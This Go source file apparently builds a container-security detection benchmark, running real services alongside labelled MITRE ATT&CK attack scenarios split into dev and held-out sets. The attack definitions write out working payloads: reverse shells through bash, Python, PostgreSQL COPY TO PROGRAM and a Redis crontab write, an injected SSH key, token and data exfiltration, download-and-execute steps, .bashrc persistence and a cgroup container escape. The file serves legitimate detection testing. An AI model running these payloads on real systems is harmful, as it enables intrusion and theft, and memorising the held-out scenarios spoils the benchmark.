package main

import (
	"context"
	"fmt"
	"io"
	"log/slog"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"time"

	"github.com/driftwatch/driftwatch/internal/testinfra"
)

// containers-v2: real services from Debian's packages (nginx, PostgreSQL
// with pgbench, Redis with persistence, a Python web app, a Node.js app),
// one per runc container on test host A, their clients on test host B, exec
// probes and life events inside the containers, and attacks with MITRE
// ATT&CK ids split into a development and a held-out part.

// Splits of a scenario (manifest "split").
const (
	splitDev     = "dev"
	splitHeldOut = "held-out"
)

// execEvent is a command exec'd in a running container every interval
// (first after offset): a kubelet exec probe or a life event.
type execEvent struct {
	every, offset time.Duration
	argv          []string
}

// FakeServiceAccountToken is planted in every v2 image where Kubernetes
// mounts one; it is not a real token.
const FakeServiceAccountToken = "eyJhbGciOiJSUzI1NiJ9.ZHJpZnR3YXRjaCB0ZXN0IGZpeHR1cmU.bm90LWEtcmVhbC10b2tlbg\n"

const fakeTLSKey = "-----BEGIN PRIVATE KEY-----\nZHJpZnR3YXRjaCB0ZXN0IGZpeHR1cmUsIG5vdCBhIHJlYWwga2V5\n-----END PRIVATE KEY-----\n"

// commonFiles are in every v2 image.
func commonFiles(helper string) map[string]fileSpec {
	return map[string]fileSpec{
		"etc/ssl/private/server.key": {mode: 0o600, data: fakeTLSKey},
		"usr/local/bin/dwhelper":     {mode: 0o755, copy: helper},
	}
}

// serviceAccountFiles are mounted at /run/secrets/kubernetes.io/serviceaccount
// (reached as /var/run/... through Debian's /var/run -> /run link), as
// Kubernetes mounts a pod's token.
func serviceAccountFiles() map[string]fileSpec {
	return map[string]fileSpec{
		"token":     {mode: 0o644, data: FakeServiceAccountToken},
		"namespace": {mode: 0o644, data: "shop\n"},
	}
}

func merge(a, b map[string]fileSpec) map[string]fileSpec {
	out := map[string]fileSpec{}
	for k, v := range a {
		out[k] = v
	}
	for k, v := range b {
		out[k] = v
	}
	return out
}

// nginxSite serves static files and proxies /api/ to the Node.js app
// (same network namespace), caching its answers in files named by the
// key's MD5 (generated names in two levels of directories).
const nginxSite = `proxy_cache_path /var/cache/nginx/api levels=1:2 keys_zone=api:1m max_size=10m inactive=3m;
server {
	listen 8080 default_server;
	root /var/www/html;
	index index.html;
	access_log /var/log/nginx/access.log;
	error_log /var/log/nginx/error.log;
	location / { try_files $uri $uri/ =404; }
	location /api/ { proxy_pass http://127.0.0.1:3000/; proxy_set_header Host $host; proxy_cache api; proxy_cache_valid 200 20s; }
}
`

const pgConf = `listen_addresses = '*'
port = 5432
unix_socket_directories = '/var/run/postgresql'
shared_buffers = 32MB
log_destination = 'stderr'
logging_collector = on
log_directory = '/var/log/postgresql'
log_filename = 'postgresql-%a.log'
`

// pyInjection builds the Python app's /lookup URL with an injected command.
func pyInjection(h hosts, cmd string) []string {
	return []string{"curl", "-s", "-m", "20", fmt.Sprintf("http://%s:8000/lookup?host=%s", h.A, url.QueryEscape("localhost;"+cmd))}
}

func nodeInjection(h hosts, cmd string) []string {
	return []string{"curl", "-s", "-m", "20", fmt.Sprintf("http://%s:3000/files?dir=%s", h.A, url.QueryEscape("uploads;"+cmd))}
}

func psqlFromB(h hosts, sql string) []string {
	return []string{"psql", "-h", h.A, "-U", "postgres", "-d", "shop", "-c", sql}
}

func redisFromB(h hosts, cmds ...[]string) []string {
	// Test host B's python3 speaks RESP (no redis-cli on the host).
	var lines []string
	for _, c := range cmds {
		var q []string
		for _, a := range c {
			q = append(q, fmt.Sprintf("%q", a))
		}
		lines = append(lines, "["+strings.Join(q, ", ")+"]")
	}
	script := `import socket, sys, json
s = socket.create_connection((sys.argv[1], 6379), timeout=10)
for c in [` + strings.Join(lines, ",") + `]:
    out = b"*%d\r\n" % len(c)
    for a in c:
        a = a.encode()
        out += b"$%d\r\n%s\r\n" % (len(a), a)
    s.sendall(out)
    print(s.recv(65536))
`
	return []string{"python3", "-c", script, h.A}
}

const minerHello = `{"id":1,"method":"mining.subscribe","params":["xmrig/6.21.0"]}`

func workloadsV2(helper string) []workload {
	probe := func(every, offset time.Duration, argv ...string) execEvent {
		return execEvent{every: every, offset: offset, argv: argv}
	}
	return []workload{
		{
			name: "nginx", split: splitDev,
			debian:     []string{"nginx", "curl", "ca-certificates"},
			stopSignal: syscall.SIGQUIT, // nginx's image: graceful shutdown
			newClient:  true,
			args:       func(hosts) []string { return []string{"nginx", "-g", "daemon off;"} },
			files: func(hosts) map[string]fileSpec {
				return merge(commonFiles(helper), map[string]fileSpec{
					"etc/nginx/sites-enabled/default": {mode: 0o644, data: nginxSite},
					"var/www/html/index.html":         {mode: 0o644, data: "<html><body>shop</body></html>\n"},
					"var/www/html/static/app.css":     {mode: 0o644, data: "body{font-family:sans-serif}\n"},
					"var/cache/nginx/.keep":           {mode: 0o644},
				})
			},
			load: func(h hosts) []string { return []string{"python3", "-c", clientLoad, "nginx", h.A} },
			execs: []execEvent{
				probe(20*time.Second, 5*time.Second, "curl", "-fsS", "-o", "/dev/null", "http://localhost:8080/"),
				probe(7*time.Minute, 2*time.Minute, "nginx", "-s", "reload"),
				probe(11*time.Minute, 4*time.Minute, "sh", "-c", "mv /var/log/nginx/access.log /var/log/nginx/access.log.1 && nginx -s reopen && gzip -f /var/log/nginx/access.log.1"),
			},
			attacks: []attack{
				{scenario: "nginx-reverse-shell", name: "reverse shell from the web server's container", split: splitDev, mitre: []string{"T1059.004"},
					argv: func(h hosts) []string {
						return []string{"bash", "-c", fmt.Sprintf("bash -i >& /dev/tcp/%s/4444 0>&1", h.B)}
					},
					listen: []string{"busybox", "nc", "-l", "-p", "4444"}, listenStdin: "id\nuname -a\ncat /etc/nginx/nginx.conf\nexit\n"},
				{scenario: "nginx-read-secrets", name: "TLS key and shadow read", split: splitDev, mitre: []string{"T1552.004"},
					argv: func(hosts) []string {
						return []string{"sh", "-c", "cat /etc/ssl/private/server.key /etc/shadow > /dev/null"}
					}},
				{scenario: "nginx-token-theft", name: "service-account token read and used", split: splitHeldOut, mitre: []string{"T1528"},
					argv: func(h hosts) []string {
						return []string{"sh", "-c", fmt.Sprintf(`curl -s -m 5 -H "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" http://%s:8443/api/v1/secrets`, h.B)}
					},
					listen: []string{"busybox", "nc", "-l", "-p", "8443"}, listenStdin: "HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\n{}"},
				{scenario: "nginx-drop-execute", name: "download and execute from /tmp", split: splitDev, mitre: []string{"T1105", "T1204.002"},
					argv: func(h hosts) []string {
						return []string{"sh", "-c", fmt.Sprintf("curl -s -o /tmp/kworkerd http://%[1]s:8000/payload && chmod +x /tmp/kworkerd && /tmp/kworkerd beacon %[1]s:8001", h.B)}
					},
					listen: []string{"busybox", "nc", "-l", "-p", "8001"}},
			},
		},
		{
			name: "postgres", split: splitDev,
			debian:     []string{"postgresql-15", "postgresql-client-15"},
			stopSignal: syscall.SIGINT, // postgres's image: fast shutdown
			// /run is the runtime's tmpfs: the socket directory is made at
			// start, as the Debian image's entrypoint does.
			args: func(hosts) []string {
				return []string{"sh", "-c", "mkdir -p /run/postgresql && chown postgres:postgres /run/postgresql && " +
					"exec setpriv --reuid=postgres --regid=postgres --init-groups /usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/data"}
			},
			files: func(hosts) map[string]fileSpec { return commonFiles(helper) },
			setup: func(root string, _ hosts) error {
				steps := [][]string{
					{"su", "postgres", "-s", "/bin/sh", "-c", "/usr/lib/postgresql/15/bin/initdb -D /var/lib/postgresql/data -A trust >/dev/null"},
					{"sh", "-c", "echo 'host all all 0.0.0.0/0 trust' >> /var/lib/postgresql/data/pg_hba.conf"},
					{"sh", "-c", "echo 'CREATE DATABASE shop;' | su postgres -s /bin/sh -c '/usr/lib/postgresql/15/bin/postgres --single -D /var/lib/postgresql/data postgres' >/dev/null"},
					{"sh", "-c", "mkdir -p /var/backups /var/log/postgresql && chown postgres:postgres /var/backups /var/log/postgresql"},
				}
				for _, st := range steps {
					if _, err := testinfra.Chroot(root, st...); err != nil {
						return err
					}
				}
				return os.WriteFile(filepath.Join(root, "var/lib/postgresql/data/postgresql.auto.conf"), []byte(pgConf), 0o600)
			},
			load: func(h hosts) []string { return []string{"python3", "-c", clientLoad, "postgres", h.A} },
			execs: []execEvent{
				probe(20*time.Second, 7*time.Second, "pg_isready", "-h", "localhost", "-q"),
				probe(9*time.Minute, 3*time.Minute, "sh", "-c", "pg_dump -h localhost -U postgres shop | gzip > /var/backups/shop-$(date +%s).sql.gz && ls -t /var/backups/*.gz | tail -n +4 | xargs -r rm"),
				probe(13*time.Minute, 6*time.Minute, "su", "postgres", "-s", "/bin/sh", "-c", "/usr/lib/postgresql/15/bin/pg_ctl reload -D /var/lib/postgresql/data"),
				// Maintenance jobs exec'd in the container (the clients run
				// VACUUM ANALYZE and CHECKPOINT over the network too).
				probe(8*time.Minute, 150*time.Second, "psql", "-h", "localhost", "-U", "postgres", "-d", "shop", "-qc", "VACUUM (ANALYZE) pgbench_history"),
				probe(12*time.Minute, 330*time.Second, "psql", "-h", "localhost", "-U", "postgres", "-d", "shop", "-qc", "CHECKPOINT"),
			},
			attacks: []attack{
				{scenario: "postgres-copy-program", name: "COPY TO PROGRAM runs a shell command", split: splitDev, mitre: []string{"T1190", "T1059.004"},
					fromB: func(h hosts) []string {
						return psqlFromB(h, "COPY (SELECT 1) TO PROGRAM 'id > /tmp/x; uname -a >> /tmp/x'")
					}},
				{scenario: "postgres-reverse-shell", name: "COPY TO PROGRAM reverse shell", split: splitHeldOut, mitre: []string{"T1190", "T1059.004"},
					fromB: func(h hosts) []string {
						return psqlFromB(h, fmt.Sprintf(`COPY (SELECT 1) TO PROGRAM 'bash -c "bash -i >& /dev/tcp/%s/4445 0>&1"'`, h.B))
					},
					listen: []string{"busybox", "nc", "-l", "-p", "4445"}, listenStdin: "id\nls /var/lib/postgresql\nexit\n"},
				// The payload's beacon finds no listener: the program exits
				// non-zero and COPY reports an error after the download ran.
				{scenario: "postgres-drop-execute", name: "COPY TO PROGRAM downloads and runs a binary", split: splitDev, mitre: []string{"T1105", "T1059.004"},
					fromB: func(h hosts) []string {
						return psqlFromB(h, fmt.Sprintf(`COPY (SELECT 1) TO PROGRAM 'bash -c "cat < /dev/tcp/%[1]s/8002 > /tmp/kworkerd; chmod +x /tmp/kworkerd; /tmp/kworkerd beacon %[1]s:8001"'`, h.B))
					},
					listen: []string{"busybox", "nc", "-l", "-p", "8002"}, listenFile: helper},
				{scenario: "postgres-discovery", name: "discovery through COPY TO PROGRAM", split: splitDev, mitre: []string{"T1082", "T1057", "T1087.001"},
					fromB: func(h hosts) []string {
						return psqlFromB(h, `COPY (SELECT 1) TO PROGRAM 'id; uname -a; cat /proc/[0-9]*/cmdline | tr "\\000" " " ; cat /etc/passwd; ls -la /var/lib/postgresql'`)
					}},
				{scenario: "postgres-lateral-movement", name: "lateral movement to the cache's port", split: splitHeldOut, mitre: []string{"T1021", "T1046"},
					fromB: func(h hosts) []string {
						return psqlFromB(h, fmt.Sprintf(`COPY (SELECT 1) TO PROGRAM 'bash -c "printf \"INFO\\r\\n\" > /dev/tcp/%s/6379"'`, h.A))
					}},
			},
		},
		{
			name: "redis", split: splitDev,
			debian:    []string{"redis-server", "redis-tools"},
			newClient: true,
			args:      func(hosts) []string { return []string{"redis-server", "/etc/redis/redis.conf"} },
			files:     func(hosts) map[string]fileSpec { return commonFiles(helper) },
			setup: func(root string, _ hosts) error {
				_, err := testinfra.Chroot(root, "sh", "-c", `sed -i -e 's/^bind .*/bind 0.0.0.0/' -e 's/^protected-mode yes/protected-mode no/' `+
					`-e 's/^appendonly no/appendonly yes/' -e 's/^daemonize yes/daemonize no/' -e 's/^supervised .*/supervised no/' `+
					`-e 's|^logfile .*|logfile /var/log/redis/redis-server.log|' -e 's/^save 3600 1.*/save 300 100/' /etc/redis/redis.conf && `+
					`echo 'enable-protected-configs yes' >> /etc/redis/redis.conf && mkdir -p /var/spool/cron/crontabs /root/.ssh`)
				return err
			},
			load: func(h hosts) []string { return []string{"python3", "-c", clientLoad, "redis", h.A} },
			execs: []execEvent{
				probe(20*time.Second, 9*time.Second, "redis-cli", "ping"),
				probe(10*time.Minute, 5*time.Minute, "redis-cli", "config", "rewrite"),
				// Persistence jobs exec'd in the container (the clients send
				// BGSAVE and BGREWRITEAOF over the network too).
				probe(8*time.Minute, 200*time.Second, "redis-cli", "bgsave"),
				probe(15*time.Minute, 7*time.Minute, "redis-cli", "bgrewriteaof"),
			},
			attacks: []attack{
				{scenario: "redis-cron-write", name: "CONFIG SET dir/dbfilename + SAVE writes a crontab", split: splitDev, mitre: []string{"T1053.003", "T1190"},
					fromB: func(h hosts) []string {
						return redisFromB(h, []string{"CONFIG", "SET", "dir", "/var/spool/cron/crontabs"}, []string{"CONFIG", "SET", "dbfilename", "root"},
							[]string{"SET", "x", fmt.Sprintf("\n\n* * * * * bash -i >& /dev/tcp/%s/4446 0>&1\n\n", h.B)}, []string{"SAVE"},
							[]string{"CONFIG", "SET", "dir", "/var/lib/redis"}, []string{"CONFIG", "SET", "dbfilename", "dump.rdb"}, []string{"DEL", "x"})
					}},
				{scenario: "redis-authorized-keys", name: "CONFIG SET dir/dbfilename + SAVE writes authorized_keys", split: splitHeldOut, mitre: []string{"T1098.004", "T1190"},
					fromB: func(h hosts) []string {
						return redisFromB(h, []string{"CONFIG", "SET", "dir", "/root/.ssh"}, []string{"CONFIG", "SET", "dbfilename", "authorized_keys"},
							[]string{"SET", "k", "\n\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGRyaWZ0d2F0Y2ggYXR0YWNrZXI attacker\n\n"}, []string{"SAVE"},
							[]string{"CONFIG", "SET", "dir", "/var/lib/redis"}, []string{"CONFIG", "SET", "dbfilename", "dump.rdb"}, []string{"DEL", "k"})
					}},
				{scenario: "redis-miner", name: "miner connection to a stratum port", split: splitDev, mitre: []string{"T1496"},
					argv: func(h hosts) []string {
						return []string{"bash", "-c", fmt.Sprintf("echo '%s' > /dev/tcp/%s/3333", minerHello, h.B)}
					},
					listen: []string{"busybox", "nc", "-l", "-p", "3333"}},
				{scenario: "redis-exfiltration", name: "the dataset sent to a new peer", split: splitDev, mitre: []string{"T1041"},
					argv: func(h hosts) []string {
						return []string{"bash", "-c", fmt.Sprintf("cat /var/lib/redis/dump.rdb > /dev/tcp/%s/9999", h.B)}
					},
					listen: []string{"busybox", "nc", "-l", "-p", "9999"}},
			},
		},
		{
			name: "python", split: splitDev,
			debian:      []string{"python3", "curl"},
			crashInLong: true,
			newClient:   true,
			args:        func(hosts) []string { return []string{"python3", "/srv/app/app.py"} },
			files: func(hosts) map[string]fileSpec {
				return merge(commonFiles(helper), map[string]fileSpec{
					"srv/app/app.py":            {mode: 0o644, data: pyApp},
					"srv/app/static/index.html": {mode: 0o644, data: "<html>items</html>\n"},
					"srv/app/data/.keep":        {mode: 0o644},
					"var/log/app/.keep":         {mode: 0o644},
				})
			},
			load: func(h hosts) []string { return []string{"python3", "-c", clientLoad, "python", h.A} },
			execs: []execEvent{
				probe(20*time.Second, 11*time.Second, "curl", "-fsS", "-o", "/dev/null", "http://localhost:8000/"),
				probe(12*time.Minute, 5*time.Minute, "sh", "-c", "mv /var/log/app/access.log /var/log/app/access.log.1 && gzip -f /var/log/app/access.log.1"),
			},
			attacks: []attack{
				{scenario: "python-command-injection", name: "command injection reaches sh", split: splitDev, mitre: []string{"T1190", "T1059.004"},
					fromB: func(h hosts) []string { return pyInjection(h, "id; uname -a; cat /etc/passwd") }},
				{scenario: "python-path-traversal", name: "path traversal reads /etc/shadow through the app", split: splitDev, mitre: []string{"T1190", "T1552.001"},
					fromB: func(h hosts) []string {
						return []string{"curl", "-s", fmt.Sprintf("http://%s:8000/static?file=%s", h.A, url.QueryEscape("../../../etc/shadow"))}
					}},
				{scenario: "python-token-traversal", name: "path traversal reads the service-account token", split: splitHeldOut, mitre: []string{"T1190", "T1528"},
					fromB: func(h hosts) []string {
						return []string{"curl", "-s", fmt.Sprintf("http://%s:8000/static?file=%s", h.A, url.QueryEscape("../../../var/run/secrets/kubernetes.io/serviceaccount/token"))}
					}},
				{scenario: "python-reverse-shell", name: "injected Python reverse shell", split: splitHeldOut, mitre: []string{"T1059.006"},
					fromB: func(h hosts) []string {
						return pyInjection(h, fmt.Sprintf(`python3 -c 'import socket,os,pty;s=socket.create_connection(("%s",4447));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`, h.B))
					},
					listen: []string{"busybox", "nc", "-l", "-p", "4447"}, listenStdin: "id\nexit\n"},
				{scenario: "python-bashrc-persistence", name: "persistence through a shell rc file", split: splitDev, mitre: []string{"T1546.004"},
					fromB: func(h hosts) []string {
						return pyInjection(h, fmt.Sprintf("echo 'curl -s http://%s:8000/recon.sh | sh' >> /root/.bashrc", h.B))
					}},
				{scenario: "python-shm-execute", name: "download to /dev/shm and execute", split: splitDev, mitre: []string{"T1105", "T1204.002"},
					fromB: func(h hosts) []string {
						return pyInjection(h, fmt.Sprintf("curl -s -o /dev/shm/.x http://%[1]s:8000/payload; chmod +x /dev/shm/.x; /dev/shm/.x beacon %[1]s:8001", h.B))
					},
					listen: []string{"busybox", "nc", "-l", "-p", "8001"}},
			},
		},
		{
			name: "node", split: splitHeldOut,
			debian:      []string{"nodejs", "curl"},
			crashInLong: true,
			newClient:   true,
			args:        func(hosts) []string { return []string{"node", "/srv/node/app.js"} },
			files: func(hosts) map[string]fileSpec {
				return merge(commonFiles(helper), map[string]fileSpec{
					"srv/node/app.js":        {mode: 0o644, data: nodeApp},
					"srv/node/users.json":    {mode: 0o644, data: `[{"id":1,"name":"ada"},{"id":2,"name":"grace"}]` + "\n"},
					"srv/node/lib/errors.js": {mode: 0o644, data: nodeErrors},
				})
			},
			load: func(h hosts) []string { return []string{"python3", "-c", clientLoad, "node", h.A} },
			execs: []execEvent{
				probe(20*time.Second, 13*time.Second, "curl", "-fsS", "-o", "/dev/null", "http://localhost:3000/"),
				// Log rotation: the app reopens its log on SIGHUP.
				probe(12*time.Minute, 4*time.Minute, "sh", "-c", "mv /var/log/node/access.log /var/log/node/access.log.1 && kill -HUP 1 && sleep 1 && gzip -f /var/log/node/access.log.1"),
			},
			attacks: []attack{
				{scenario: "node-command-injection", name: "command injection through the files endpoint", split: splitHeldOut, mitre: []string{"T1190", "T1059.004"},
					fromB: func(h hosts) []string { return nodeInjection(h, "id; cat /etc/passwd") }},
				{scenario: "node-discovery", name: "discovery through the injection", split: splitHeldOut, mitre: []string{"T1082", "T1613"},
					fromB: func(h hosts) []string {
						return nodeInjection(h, "uname -a; cat /proc/1/environ; ls -la /run /srv /var/run/secrets/kubernetes.io/serviceaccount")
					}},
				{scenario: "node-exfiltration", name: "application directory sent to a new peer", split: splitHeldOut, mitre: []string{"T1041"},
					fromB: func(h hosts) []string {
						return nodeInjection(h, fmt.Sprintf("tar cz /srv/node 2>/dev/null | curl -s -m 5 --data-binary @- http://%s:9999/", h.B))
					},
					listen: []string{"busybox", "nc", "-l", "-p", "9999"}, listenStdin: "HTTP/1.0 200 OK\r\n\r\n"},
				{scenario: "node-container-escape", name: "container escape attempt (cgroup release_agent, nsenter)", split: splitHeldOut, mitre: []string{"T1611"},
					argv: func(hosts) []string {
						return []string{"sh", "-c", "mkdir -p /tmp/cgrp; mount -t cgroup -o memory cgroup /tmp/cgrp; " +
							"echo /tmp/x > /sys/fs/cgroup/release_agent; nsenter -t 1 -m -u -n -p sh -c id"}
					}},
			},
		},
	}
}

// scenarioSplit is the manifest split of a scenario: the attack's, else
// (benign scenarios) the workload's.
func scenarioSplit(w workload, at attack) string {
	if at.split != "" {
		return at.split
	}
	return w.split
}

// v2Attacks is the suite's attacks.json: per attack its scenario, workload,
// split, MITRE ATT&CK ids and how it runs (labels.Attack has no field for
// them; docs/datasets.md has the same table).
func v2Attacks(wls []workload) []map[string]any {
	var out []map[string]any
	for _, w := range wls {
		for _, at := range w.attacks {
			how := "runc exec in the container"
			if at.fromB != nil {
				how = "request from test host B to the service"
			}
			out = append(out, map[string]any{"scenario": at.scenario, "workload": w.name, "name": at.name,
				"split": scenarioSplit(w, at), "mitre": at.mitre, "how": how})
		}
	}
	return out
}

// startExecs runs the workload's exec probes and life events in its
// container until the scope ends (kubelet-style: `runc exec`, output
// discarded, a failure logged and retried at the next interval).
func startExecs(ctx context.Context, s *testinfra.Scope, log *slog.Logger, r *running) {
	stop := make(chan struct{})
	s.Cleanup(func() { close(stop) })
	for _, ev := range r.w.execs {
		go func(ev execEvent) {
			wait := ev.offset
			for {
				select {
				case <-ctx.Done():
					return
				case <-stop:
					return
				case <-time.After(wait):
				}
				wait = ev.every
				cmd := r.container().Command(ev.argv...)
				cmd.Stdout, cmd.Stderr = io.Discard, io.Discard
				if err := cmd.Start(); err != nil {
					log.Warn("exec event", "workload", r.w.name, "argv", ev.argv, "err", err)
					continue
				}
				done := make(chan error, 1)
				go func() { done <- cmd.Wait() }()
				select {
				case err := <-done:
					if err != nil {
						log.Debug("exec event failed", "workload", r.w.name, "argv", ev.argv, "err", err)
					}
				case <-time.After(2 * time.Minute):
					_ = cmd.Process.Kill()
					<-done
				}
			}
		}(ev)
	}
}
